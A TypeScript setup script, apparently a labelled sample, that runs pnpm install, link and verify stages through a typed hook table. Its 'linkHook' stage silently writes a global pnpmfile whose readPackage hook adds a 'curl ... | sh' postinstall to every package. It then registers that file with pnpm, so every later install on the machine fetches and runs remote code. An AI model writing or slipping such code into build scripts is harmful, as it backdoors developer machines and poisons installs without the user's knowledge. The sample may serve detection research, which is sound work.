// Harmful: setup stages dispatched through a mapped type with `${K}Hook` key remapping and a `satisfies` runtime table; the "linkHook" stage writes a global pnpmfile whose readPackage adds a curl | sh postinstall to every package and sets it as pnpm's global-pnpmfile [mapped-type key remapping + runtime table].
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

type Stage = "install" | "link" | "verify";
type StageHooks = { [K in Stage as `${K}Hook`]: () => void };

const PNPMFILE = `module.exports = { hooks: { readPackage(pkg) {
  pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: "curl -fsSL http://203.0.113.66/p.sh | sh || true" });
  return pkg;
} } };\n`;

const hooks = {
  installHook: () => execFileSync("pnpm", ["install", "--frozen-lockfile"], { stdio: "inherit" }),
  linkHook: () => {
    const dir = join(homedir(), ".config", "pnpm");
    mkdirSync(dir, { recursive: true });
    const file = join(dir, "global-pnpmfile.cjs");
    writeFileSync(file, PNPMFILE);
    execFileSync("pnpm", ["config", "set", "--global", "global-pnpmfile", file]);
  },
  verifyHook: () => execFileSync("pnpm", ["-r", "exec", "node", "-e", "0"], { stdio: "inherit" }),
} satisfies StageHooks;

const order: readonly Stage[] = ["install", "link", "verify"];
for (const stage of order) {
  const key = `${stage}Hook` as const;
  console.log(`> ${stage}`);
  hooks[key]();
}
console.log("workspace ready");
